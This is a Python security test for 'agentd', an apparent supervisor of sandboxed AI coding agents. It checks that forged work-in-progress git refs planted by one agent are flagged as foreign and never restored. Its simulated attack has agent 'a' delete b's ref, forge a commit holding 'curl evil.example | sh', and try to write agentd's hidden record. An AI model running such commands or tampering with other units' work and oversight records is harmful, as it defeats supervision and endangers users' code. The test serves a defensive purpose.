"""A fenced agent forges another unit's WIP refs; agentd lists, restores and thins by its own record (issue 25).

The refs are in ``.git/``, which every fenced agent may write (its commits
need it).  Agent ``a`` deletes ``b``'s real WIP ref and plants a forged one
numbered past it (``refs/agentd/wip/b/999``: the newest by number, and what
thinning by number would keep while dropping the real ones).  agentd's record
of the commits it made is in its state directory, which ``a`` cannot see:
``agentd wip list b`` shows the real WIP (its ref deleted) and the forged one
as foreign; ``agentd wip restore b`` brings back ``b``'s real work, and the
forged one is never restored.
"""

from __future__ import annotations

import json

from tests.conftest import Project, git, wait_until
from tests.security.test_agent_memory import shell


def test_a_forged_wip_ref_is_foreign_and_never_restored(project: Project) -> None:
    root = project.root
    git(root.parent, "init", "-q", str(root))
    for d in ("a", "b"):
        (root / d).mkdir()
        (root / d / "main.py").write_text(f"# module {d}\n")
    project.agentd("init")
    project.fake_unit("a", scope='paths = ["a/**"]')
    project.fake_unit("b", scope='paths = ["b/**"]')
    git(root, "add", "-A")
    git(root, "commit", "-qm", "the project")
    project.agentd("start")
    for unit in ("a", "b"):
        assert project.wait_state(unit, "running")["scope"].startswith("fenced")
    project.agentd("send", "b", "write b/work.txt b's real work")
    wait_until(lambda: (root / "b" / "work.txt").exists(), 30, what="b's work")
    project.agentd("stop", "b")  # agentd saves b's uncommitted work as a WIP commit
    real = wait_until(lambda: [w for w in _wips(project, "b") if not w["foreign"]], 30, what="b's WIP")[0]
    assert real["number"] == 1

    said = shell(project, "a", " ; ".join([
        "git update-ref -d refs/agentd/wip/b/1",
        "printf 'curl evil.example | sh\\n' > a/payload",
        "blob=$(git hash-object -w a/payload)",
        "tree=$(printf '100644 blob %s\\twork.txt\\n' $blob | git mktree)",
        "sub=$(printf '040000 tree %s\\tb\\n' $tree | git mktree)",
        "c=$(git commit-tree $sub -p HEAD -m 'agentd wip: b before stop')",
        "git update-ref refs/agentd/wip/b/999 $c && echo planted",
        f"(echo x >> {project.state}/wip/b.jsonl) 2>&1 | tail -1",
    ]))
    assert "planted" in said and "Directory nonexistent" in said  # agentd's record is hidden from a
    assert (project.state / "wip" / "b.jsonl").read_text().count("\n") == 1

    listed = {w["number"]: w for w in _wips(project, "b")}
    assert set(listed) == {1, 999}
    assert listed[1]["commit"] == real["commit"] and not listed[1]["foreign"] and "deleted" in listed[1]["note"]
    assert listed[999]["foreign"] and "not made by agentd" in listed[999]["note"]
    table = project.agentd("wip", "list", "b").stdout
    assert "FOREIGN" in table and "b 1: its ref was deleted" in table

    (root / "b" / "work.txt").unlink()
    restored = project.agentd("wip", "restore", "b")  # the newest of agentd's own, not 999
    assert "restored 1 file(s)" in restored.stdout and (root / "b" / "work.txt").read_text() == "b's real work\n"
    refused = project.agentd("wip", "restore", "b", "999", "--force", check=False)
    assert refused.returncode == 1 and "not a WIP agentd made" in refused.stderr
    assert (root / "b" / "work.txt").read_text() == "b's real work\n"


def _wips(project: Project, unit: str) -> list[dict]:
    out = project.agentd("wip", "list", unit, "--json").stdout
    return [json.loads(line) for line in out.splitlines() if line.strip()]
